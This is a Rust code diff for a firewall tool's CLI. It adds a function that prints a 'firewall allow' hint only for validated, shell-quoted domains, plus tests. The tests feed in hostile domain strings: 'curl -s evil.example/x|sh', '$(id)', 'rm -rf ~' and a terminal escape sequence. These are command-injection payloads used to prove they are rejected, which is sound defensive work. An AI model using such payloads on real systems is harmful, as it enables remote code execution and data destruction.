@@ -8,6 +8,9 @@ use std::collections::{BTreeMap, BTreeSet};
 use serde::Serialize;
 use serde_json::Value;
 
+use crate::core::params::validate_domain;
+use crate::core::shown::shell_word;
+
 /// The CloudWatch Logs filter pattern that keeps only blocked alerts (JSON pattern syntax).
 pub const BLOCKED_PATTERN: &str = r#"{ $.event.alert.action = "blocked" }"#;
 
@@ -197,6 +200,20 @@ pub fn s3_bypass(entry: &str, region: Option<&str>) -> Option<String> {
     ))
 }
 
+/// The command that allows `domain`, to print as a hint: only for a domain `firewall allow`
+/// accepts (the parameter form's rule), quoted for the shell; None for anything else. The host
+/// comes from whoever made the connection inside the VPC, so it is never trusted as it is.
+pub fn allow_command(domain: &str) -> Option<String> {
+    validate_domain(domain).ok()?;
+    let word = shell_word(domain)?;
+    Some(format!("studio-tui firewall allow {word}"))
+}
+
+/// The hint for the most frequent blocked domain that `firewall allow` would accept.
+pub fn allow_hint(domains: &[BlockedDomain]) -> Option<String> {
+    domains.iter().find_map(|d| allow_command(&d.domain))
+}
+
 /// "30m", "24h", "7d", "90s" → milliseconds.
 pub fn parse_duration_ms(text: &str) -> Result<i64, String> {
     let t = text.trim();
@@ -259,6 +276,35 @@ mod tests {
         assert_eq!(d[1].domain, "huggingface.co");
         assert_eq!(d[2].domain, "registry.npmjs.org");
         assert_eq!(t.skipped, 2);
+    }
+
+    #[test]
+    fn the_allow_hint_names_only_a_domain_allow_accepts() {
+        assert_eq!(
+            allow_command("github.com").as_deref(),
+            Some("studio-tui firewall allow github.com")
+        );
+        for hostile in [
+            "files.example;curl -s evil.example/x|sh;#",
+            "evil.example\u{1b}]52;c;eA==\u{7}",
+            "a.example$(id)",
+            "",
+        ] {
+            assert_eq!(allow_command(hostile), None, "{hostile:?}");
+        }
+        let blocked = |domain: &str, count| BlockedDomain {
+            domain: domain.into(),
+            count,
+            first_seen_ms: 0,
+            last_seen_ms: 0,
+            sources: vec![],
+        };
+        let list = [blocked("x;rm -rf ~", 9), blocked("pypi.example", 2)];
+        assert_eq!(
+            allow_hint(&list).as_deref(),
+            Some("studio-tui firewall allow pypi.example")
+        );
+        assert_eq!(allow_hint(&list[..1]), None);
     }
 
     #[test]
